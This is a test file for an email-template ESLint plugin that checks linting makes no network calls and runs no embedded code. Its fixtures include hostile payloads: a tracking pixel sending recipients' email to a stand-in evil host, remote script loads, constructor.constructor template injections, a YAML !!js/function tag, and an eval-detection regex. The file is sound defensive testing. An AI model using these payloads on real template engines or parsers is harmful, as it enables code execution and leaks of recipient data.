import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import https from "node:https";
import net from "node:net";
import path from "node:path";
import { afterEach, describe, expect, test, vi } from "vitest";
import { ESLint } from "eslint";
import plugin from "../../plugin/index.js";
import { createZeroConfig } from "../../src/cli/config.js";
import { tempProject } from "../helpers/lint.js";

/**
 * Lint time never touches the network and never evaluates code from a
 * template or sidecar, whatever they contain.
 */
const hostile = {
	"mail.mjml": `<mjml><mj-head><mj-style>@import url("https://fonts.evil.example/x.css");</mj-style></mj-head><mj-body>
<mj-section><mj-column><mj-image src="https://tracker.evil.example/p.gif?e={{email}}" />
<mj-text><a href="https://evil.example/unsubscribe">Unsubscribe</a><script src="https://evil.example/x.js"></script>
<img src="http://insecure.example/i.png"></mj-text>
<mj-include path="https://evil.example/partial.mjml" />
</mj-column></mj-section></mj-body></mjml>`,
	"page.html": `<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.evil.example/a.css"><script>globalThis.__mailcomplyPwned = true; process.exit(3)</script></head>
<body><form action="http://evil.example/subscribe"><input type="email" name="email"></form>
<a href="javascript:globalThis.__mailcomplyPwned=true">Afmelden</a><img src="https://evil.example/{{ constructor.constructor('globalThis.__mailcomplyPwned=true')() }}"></body></html>`,
	"page.campaign.yaml": `kind: !!js/function "function () { globalThis.__mailcomplyPwned = true }"\nesp: other\n`,
	"mail.campaign.yaml": `headers:\n  List-Unsubscribe: "<https://evil.example/u>"\nsubject: "{{ constructor.constructor('globalThis.__mailcomplyPwned=true')() }}"\n`,
};

afterEach(() => vi.restoreAllMocks());

describe("security properties", () => {
	test("linting makes no network access", async () => {
		const attempts: string[] = [];
		const refuse = (what: string) =>
			((...args: unknown[]) => {
				attempts.push(`${what} ${String(args[0])}`);
				throw new Error(`network access attempted: ${what}`);
			}) as never;
		vi.spyOn(net.Socket.prototype, "connect").mockImplementation(refuse("net.connect"));
		vi.spyOn(http, "request").mockImplementation(refuse("http.request"));
		vi.spyOn(http, "get").mockImplementation(refuse("http.get"));
		vi.spyOn(https, "request").mockImplementation(refuse("https.request"));
		vi.spyOn(https, "get").mockImplementation(refuse("https.get"));
		vi.spyOn(dns, "lookup").mockImplementation(refuse("dns.lookup"));
		vi.spyOn(globalThis, "fetch").mockImplementation(refuse("fetch"));
		const project = tempProject(hostile);
		try {
			const eslint = new ESLint({ cwd: project.dir, overrideConfigFile: true, overrideConfig: createZeroConfig(plugin, undefined) });
			const results = await eslint.lintFiles(["."]);
			expect(results.length).toBe(4);
			expect(results.every(result => result.messages.every(message => !message.fatal || /alias|tag|js\/function/iu.test(message.message)))).toBe(true);
		} finally {
			project.cleanup();
		}
		expect(attempts).toEqual([]);
	});

	test("no code from a template or sidecar is evaluated", async () => {
		const project = tempProject(hostile);
		try {
			const eslint = new ESLint({ cwd: project.dir, overrideConfigFile: true, overrideConfig: createZeroConfig(plugin, undefined) });
			await eslint.lintFiles(["."]);
			expect((globalThis as Record<string, unknown>)["__mailcomplyPwned"]).toBeUndefined();
		} finally {
			project.cleanup();
		}
	});

	test("no eval, Function constructor or dynamic import of user data in the linter's own code", () => {
		const roots = ["src", "rules", "plugin"].map(dir => path.resolve(import.meta.dirname, "../..", dir));
		const offenders: string[] = [];
		for (const root of roots) {
			for (const file of fs.readdirSync(root, { recursive: true, encoding: "utf8" })) {
				if (!file.endsWith(".ts")) continue;
				const text = fs.readFileSync(path.join(root, file), "utf8");
				if (/\beval\s*\(|new\s+Function\s*\(|\bvm\.run|\brunInNewContext\b/u.test(text)) offenders.push(file);
			}
		}
		expect(offenders).toEqual([]);
	});
});
